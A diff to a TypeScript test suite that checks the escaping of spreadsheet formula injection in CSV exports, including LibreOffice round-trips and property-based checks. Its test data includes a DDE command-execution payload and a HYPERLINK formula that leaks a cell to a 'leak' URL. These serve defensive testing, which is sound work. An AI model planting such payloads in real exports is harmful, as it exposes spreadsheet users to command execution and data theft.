@@ -4,8 +4,10 @@ import { mkdtemp, rm, writeFile } from 'node:fs/promises'
 import { tmpdir } from 'node:os'
 import { delimiter, join } from 'node:path'
 import { promisify } from 'node:util'
+import { neutralize } from '@mailsift/csv/formula'
 import { fromBlob, openList } from '@mailsift/intake/list'
 import { createRecordReader } from '@mailsift/intake/records'
+import fc from 'fast-check'
 import { strFromU8, unzipSync } from 'fflate'
 import { describe, expect, onTestFinished, test } from 'vitest'
 import { excelCell, excelSeparatorOf } from '../src/excel.ts'
@@ -16,8 +18,11 @@ test.each([
   ['+1+1', "'+1+1"],
   ['-2+3', "'-2+3"],
   ['@SUM(A1)', "'@SUM(A1)"],
-  ['\t=1', `"'\t=1"`],
-  ['two\n=lines', `"'two\n=lines"`],
+  ['\t=1', `"'\t'=1"`],
+  ['two\n=lines', `"'two\n'=lines"`],
+  ['a;=1+1;b', `"a;'=1+1;b"`],
+  ['a,"=1+1"', `"a,""'=1+1"""`],
+  ['Ann, -5', '"Ann, -5"'],
   ['＝1', "'＝1"],
   ['\u200b=1', "'\u200b=1"],
   ['a;b', '"a;b"'],
@@ -40,25 +45,32 @@ test.each([
   expect(excelSeparatorOf(locale)).toBe(separator)
 })
 
-const NASTY = [
-  "=cmd|'/C calc'!A0",
-  '=1+1',
-  '+1+1',
-  '-2+3',
-  '@SUM(1+1)',
-  '=HYPERLINK("http://contoso.com/?leak="&A1,"Open invoice")',
-  ' =1+1',
-  '\t=1+1',
-  'two\n=1+1',
-  '＝1+1',
-  'a;=1+1',
-  'a,=1+1',
-  '";=1+1',
-  "'=1+1",
-]
+/** As a list has them, and as a spreadsheet shows them. */
+const NASTY = new Map([
+  ["=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"],
+  ['=1+1', "'=1+1"],
+  ['+1+1', "'+1+1"],
+  ['-2+3', "'-2+3"],
+  ['@SUM(1+1)', "'@SUM(1+1)"],
+  [
+    '=HYPERLINK("http://contoso.com/?leak="&A1,"Open invoice")',
+    `'=HYPERLINK("http://contoso.com/?leak="&A1,"Open invoice")`,
+  ],
+  [' =1+1', "' =1+1"],
+  ['\t=1+1', "'\t'=1+1"],
+  ['two\n=1+1', "'two\n'=1+1"],
+  ['two\n=1+1,b', "'two\n'=1+1,b"],
+  ['＝1+1', "'＝1+1"],
+  ['a;=1+1', "a;'=1+1"],
+  ['a;=1+1;b', "a;'=1+1;b"],
+  ['a,=1+1', "a,'=1+1"],
+  ['a,=1+1,b', "a,'=1+1,b"],
+  ['";=1+1', `";'=1+1`],
+  ["'=1+1", "'=1+1"],
+])
 
 async function written(excelSeparator: ',' | ';' | undefined): Promise<string> {
-  const rows = NASTY.map((cell) => `ann.lee@contoso.com\t"${cell.replaceAll('"', '""')}"\tlast\n`)
+  const rows = [...NASTY.keys()].map((cell) => `ann.lee@contoso.com\t"${cell.replaceAll('"', '""')}"\tlast\n`)
   const list = await openList(fromBlob(new Blob([`email\tnote\tend\n${rows.join('')}`])))
   const { head, row } = layOut(list, excelSeparator)
   let text = `\ufeff${head.whole}${head.end}`
@@ -71,23 +83,37 @@ test.each([',', ';'] as const)('split at %s, every cell is in its column', async
   const reader = createRecordReader({ separator, columns: 'all', width: 3 })
   const [head, ...rows] = [...reader.push((await written(separator)).slice(1)), ...reader.end()]
   expect(head!.cells).toEqual(['email', 'note', 'end'])
-  expect(rows.map(({ cells }) => cells)).toEqual(NASTY.map((cell) => ['ann.lee@contoso.com', safe(cell), 'last']))
+  expect(rows.map(({ cells }) => cells)).toEqual(
+    [...NASTY.values()].map((cell) => ['ann.lee@contoso.com', cell, 'last']),
+  )
 })
 
-/** Of the cells above only these do not begin like a formula. */
-const safe = (cell: string) => (/^(?:a[;,]|";|')/.test(cell) ? cell : `'${cell}`)
+test('whichever separator a program splits at, no part of a text runs', () => {
+  const text = fc.string({ unit: fc.constantFrom(...'=+-@＝,;\t|"\r\n 1a\u00a0') })
+  fc.assert(
+    fc.property(text, (text) => {
+      for (const [at, part] of `email;${excelCell(text)},end`.split(/[,;\t|\r\n]/).entries()) {
+        // The cell's own quote is read as one; programs differ in what they do with others.
+        const shown = part.replace(at === 1 ? /^"/ : /^"+/, '')
+        if (!/^\s*[+-]?\d+(?:\.\d+)*\s*"*$/.test(shown)) expect(neutralize(shown)).toBe(shown)
+      }
+    }),
+  )
+})
 
 const soffice = findProgram('soffice')
 
 describe.skipIf(!soffice)(`in LibreOffice${soffice ? '' : ' (skipped: it is not installed)'}`, () => {
-  test('split at a comma or a semicolon, columns are columns and nothing runs; as it was sent, cells would run', {
-    timeout: 120_000,
+  test('split at a comma or a semicolon, columns are columns and nothing runs, also at the wrong one; as it was sent, cells would run', {
+    timeout: 240_000,
   }, async () => {
     const folder = await mkdtemp(join(tmpdir(), 'mailsift-calc-'))
     onTestFinished(() => rm(folder, { recursive: true, force: true }))
     const files = [
       { name: 'comma', separator: ',', text: await written(',') },
       { name: 'semicolon', separator: ';', text: await written(';') },
+      { name: 'comma-as-semicolon', separator: ';', text: await written(',') },
+      { name: 'semicolon-as-comma', separator: ',', text: await written(';') },
       { name: 'raw', separator: '\t', text: await written(undefined) },
     ]
     for (const { name, separator, text } of files) {
@@ -112,8 +138,9 @@ describe.skipIf(!soffice)(`in LibreOffice${soffice ? '' : ' (skipped: it is not 
       const cells: (string | undefined)[][] = []
       for await (const batch of list.records([0, 1, 2])) cells.push(...batch.map((record) => record.cells))
       expect(list.names).toEqual(['email', 'note', 'end'])
-      expect(cells).toEqual(NASTY.map((cell) => ['ann.lee@contoso.com', safe(cell), 'last']))
+      expect(cells).toEqual([...NASTY.values()].map((cell) => ['ann.lee@contoso.com', cell, 'last']))
     }
+    for (const name of ['comma-as-semicolon', 'semicolon-as-comma']) expect(formulas(name)).toBe(null)
     expect(formulas('raw')).not.toBe(null)
   })
 })
